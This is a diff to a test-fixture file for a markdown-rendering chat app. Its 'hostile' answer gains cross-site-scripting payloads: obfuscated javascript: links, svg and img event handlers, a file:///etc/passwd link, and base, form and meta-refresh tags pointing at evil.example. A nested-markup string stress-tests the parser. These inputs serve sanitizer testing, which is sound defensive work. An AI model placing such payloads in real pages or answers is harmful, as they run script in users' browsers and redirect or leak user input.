@@ -10,7 +10,7 @@ export const models = [
     kind: 'app',
     description: 'Answers with functions from your indexed code, and says which.',
     note,
-    skills: ['chat', 'completion'],
+    skills: ['chat', 'completion', 'infilling'],
     context: 4096,
     family: '',
     default: true,
@@ -403,9 +403,22 @@ ${fence}html
 <script>window.pwned = 6</script><img src=x onerror="window.pwned = 7">
 ${fence}
 
+[caps](JaVaScRiPt:window.pwned=9) [tab](java\tscript:window.pwned=10) <javascript:window.pwned=11> [vb](vbscript:x) [file](file:///etc/passwd)
+
+<svg onload="window.pwned=12"><a xlink:href="javascript:window.pwned=13">x</a></svg> <math><mi xlink:href="javascript:window.pwned=14">y</mi></math>
+
+[entity](&#106;avascript:window.pwned=15) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) <style>body{display:none}</style> <base href="https://evil.example/">
+
+| <img src=x onerror="window.pwned=16"> | [t](javascript:window.pwned=17) |
+| --- | --- |
+| <form action="https://evil.example"><input name=q></form> | <meta http-equiv=refresh content="0;url=https://evil.example"> |
+
 \`<iframe srcdoc="<script>window.pwned=8</script>">\` &lt;script&gt; see [1].`
 
-export const answers = { normal, long, hostile, failing: normal }
+// Nested as deep as a broken or hostile model can, within what a small answer holds.
+const nested = `${'> '.repeat(2000)}deep\n\n${'- '.repeat(2000)}item\n\n${'['.repeat(3000)}x${']'.repeat(3000)}\n\n${'*'.repeat(3001)}a\n\nthe end of it`
+
+export const answers = { normal, long, hostile, nested, failing: normal }
 
 /** @typedef {import('../src/api/types').Turn} Turn */
 
@@ -425,6 +438,11 @@ const turn = (id, role, content, extra = {}) => ({
   timings: {},
   rating: null,
   comment: '',
+  cost: null,
+  dropped: [],
+  explained: false,
+  siblings: [],
+  attachments: [],
   answer_id: null,
   ...extra,
 })
@@ -447,6 +465,7 @@ const conversation = (id, title, days, turns = []) => ({
   index: null,
   created_at: daysAgo(days, 3),
   updated_at: daysAgo(days, 1),
+  excerpt: '',
   turns,
 })
 /** @type {import('../src/api/types').ConversationWithTurns[]} */
